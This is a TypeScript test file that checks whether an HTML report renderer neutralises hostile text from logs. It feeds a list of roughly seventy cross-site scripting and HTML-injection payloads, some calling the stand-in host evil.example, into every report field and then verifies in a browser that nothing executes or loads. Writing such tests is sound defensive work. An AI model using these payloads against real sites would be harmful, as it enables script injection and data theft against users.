import { describe, expect, test } from 'vitest'
import type { Finding, Report } from '../../src/core/report.ts'
import { renderHtml } from '../../src/report/html/render.ts'
import { sanitize } from '../../src/report/sanitize.ts'
import { finding, report } from '../report/sample.ts'
import { browser, noBrowser } from './chromium.ts'

const BOOM = 'globalThis.ran=1'

/** Texts that somebody may write into a log so that a page acts. */
const HOSTILE: readonly string[] = [
  `<script>${BOOM}</script>`,
  `</script><script>${BOOM}</script>`,
  `</style><script>${BOOM}</script>`,
  `</title><script>${BOOM}</script>`,
  `</pre></details></section><script>${BOOM}</script>`,
  `</textarea><script>${BOOM}</script>`,
  `--><script>${BOOM}</script><!--`,
  `<!--<script>${BOOM}`,
  `]]><script>${BOOM}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${BOOM}</script>`,
  `<ScRiPt>${BOOM}</sCrIpT>`,
  `<img src=x onerror=${BOOM}>`,
  `<img src="https://evil.example/pixel.png">`,
  `"><img src=x onerror="${BOOM}">`,
  `'><img src=x onerror='${BOOM}'>`,
  `" onmouseover="${BOOM}" x="`,
  `' onfocus='${BOOM}' autofocus x='`,
  `" autofocus onfocus=${BOOM} tabindex=0 "`,
  `<svg onload=${BOOM}>`,
  `<svg><script>${BOOM}</script></svg>`,
  `<svg><animate onbegin=${BOOM} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${BOOM}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${BOOM}>#x"></svg>`,
  `</svg><script>${BOOM}</script>`,
  `</text></svg><img src=x onerror=${BOOM}>`,
  `</title></svg><script>${BOOM}</script>`,
  `<math><mtext><img src=x onerror=${BOOM}></mtext></math>`,
  `<foreignObject><body onload=${BOOM}></foreignObject>`,
  `<a href="javascript:${BOOM}">x</a>`,
  `javascript:${BOOM}`,
  `JaVaScRiPt:${BOOM}`,
  `data:text/html,<script>${BOOM}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/y">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><button autofocus>go</button></form>`,
  `<button formaction="javascript:${BOOM}">x</button>`,
  `<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/z)">x</div>`,
  `<video src=x onerror=${BOOM}></video>`,
  `<audio src=x onerror=${BOOM}>`,
  `<details open ontoggle=${BOOM}>x</details>`,
  `<marquee onstart=${BOOM}>x</marquee>`,
  `<input autofocus onfocus=${BOOM}>`,
  `<template><script>${BOOM}</script></template>`,
  `<noscript><img src=x onerror=${BOOM}></noscript>`,
  `<xmp><script>${BOOM}</script>`,
  `<plaintext>`,
  `<p id=main><p id=as-markdown><p class=tools>`,
  `<form name=body><input name=append>`,
  `\u202e<script>${BOOM}</script>\u202d`,
  `\u2028<script>${BOOM}</script>`,
  `\u0000<scr\u0000ipt>${BOOM}</scr\u0000ipt>`,
  `\ud800<img src=x onerror=${BOOM}>`,
  `&lt;script&gt;${BOOM}&lt;/script&gt;`,
  `&#60;script&#62;${BOOM}&#60;/script&#62;`,
  `{{constructor.constructor('${BOOM}')()}}`,
  `\${${BOOM}}`,
  `#"><script>${BOOM}</script>`,
  `__proto__`,
  `constructor`,
]

/** A report that holds the text wherever an input's text may come to stand. */
function poisoned(text: string): Report {
  const moment = { time: '2026-11-21T14:03:11Z', clock: 'wall' as const }
  const effect: Finding = finding({
    key: `${text}#2`,
    id: text,
    title: text,
    headline: text,
    entities: { host: text },
    first: '2026-11-21T14:05:00Z',
  })
  const root = finding({
    title: text,
    headline: text,
    cause: text,
    because: [text],
    when: text,
    state: text,
    effect: text,
    excluded: text,
    open: [{ ask: text, run: text }],
    entities: { host: text, comm: text, [text]: text },
    facts: { [text]: text },
    series: [
      {
        quantity: text,
        unit: text,
        of: text,
        points: [
          [text, 1],
          ['2026-11-21T14:00:00Z', 2],
          [null, 3],
        ],
        limit: 4,
      },
    ],
    ledger: { of: text, unit: text, total: 10, parts: [{ name: text, value: 4 }] },
    evidence: [{ artifact: text, line: 7, offset: 0, text, message: text, note: text, ...moment }],
    against: [{ note: text, evidence: { artifact: text, line: 8, offset: 0, text } }],
    fix: [{ when: 'now', say: text, run: text, changes: 'host' }],
    links: [text, `https://example.com/${text}`],
  })
  const base = report([root, effect])
  return sanitize({
    ...base,
    summary: text,
    incidents: [
      {
        root: root.key,
        effects: [effect.key],
        why: [text],
        alternatives: [text],
        headline: text,
        host: text,
        chain: [{ cause: root.key, effect: effect.key, why: [text] }],
      },
    ],
    timeline: [{ text, finding: root.key, ...moment }],
    coverage: {
      ...base.coverage,
      artifacts: [
        {
          path: text,
          format: text,
          bytes: 1,
          lines: 1,
          from: '2026-11-21T14:00:00Z',
          to: '2026-11-21T14:10:00Z',
          clock: 'wall',
          machine: text,
        },
      ],
      gaps: [{ what: text, why: text, kind: 'limit' }],
      notObserved: [{ id: text, in: text, certainty: text }],
      unexplained: [{ artifact: text, line: 1, offset: 0, text, count: 2, gravity: 'fatal' }],
      machines: [{ name: text, aliases: [text], boots: [{ number: 0, start: '2026-11-21T13:00:00Z', clock: 'wall' }], timeZone: text }],
    },
    next: [{ say: text, run: text }],
  })
}

describe.skipIf(noBrowser !== undefined)(
  `texts of an input in the page are texts${noBrowser === undefined ? '' : `: ${noBrowser}`}`,
  () => {
    const { open } = browser()

    test.each(HOSTILE)('%j', async (text) => {
      const report = poisoned(text)
      const seen = await open(renderHtml(report))
      const { page } = seen
      // everything that can be opened, chosen and pressed
      await page.evaluate(() => {
        for (const one of document.querySelectorAll('details')) one.open = true
        for (const one of document.querySelectorAll<HTMLElement>('button, summary, .axis, select, input')) {
          one.focus()
          one.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))
        }
        for (const one of document.querySelectorAll('button')) one.click()
      })
      const found = await page.evaluate(() => ({
        ran: (globalThis as { ran?: number }).ran,
        scripts: document.scripts.length,
        sheets: document.querySelectorAll('style').length,
        strange: [...document.querySelectorAll('*')].filter(({ localName }) =>
          /^(?:img|iframe|object|embed|link|base|video|audio|marquee|template|noscript|math|foreignobject|xmp|plaintext|input|animate|use)$/.test(
            localName,
          ),
        ).length,
        acting: [...document.querySelectorAll('*')]
          .flatMap(({ attributes }) => [...attributes].map(({ name }) => name))
          .filter((name) => /^on|^style$|^src/.test(name)),
        addresses: [...document.querySelectorAll('[href]')]
          .map((one) => one.getAttribute('href')!)
          .filter((href) => !/^(?:#[\w-]+|https:\/\/(?:example\.com|docs\.kernel\.org)\/)/.test(href)),
        answer: document.querySelector('h1')?.textContent,
      }))
      expect(found).toEqual({ ran: undefined, scripts: 1, sheets: 1, strange: 0, acting: [], addresses: [], answer: report.summary })
      expect(seen.console).toEqual([])
      expect(seen.requests).toEqual([])
    })

    test('the policy stops what would get in all the same', async () => {
      const seen = await open(renderHtml(poisoned('x')))
      await seen.page.evaluate(async () => {
        const script = document.createElement('script')
        script.textContent = 'globalThis.ran=1'
        document.body.append(script)
        const image = document.createElement('img')
        image.src = 'https://evil.example/x.png'
        document.body.append(image)
        document.body.insertAdjacentHTML('beforeend', '<p style="color:red">x</p><svg onload="globalThis.ran=1"></svg>')
        await fetch('https://evil.example/').catch(() => {})
      })
      expect(await seen.page.evaluate(() => (globalThis as { ran?: number }).ran)).toBeUndefined()
      expect(seen.requests).toEqual([])
      expect(seen.console.filter((line) => line.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(4)
    })
  },
)
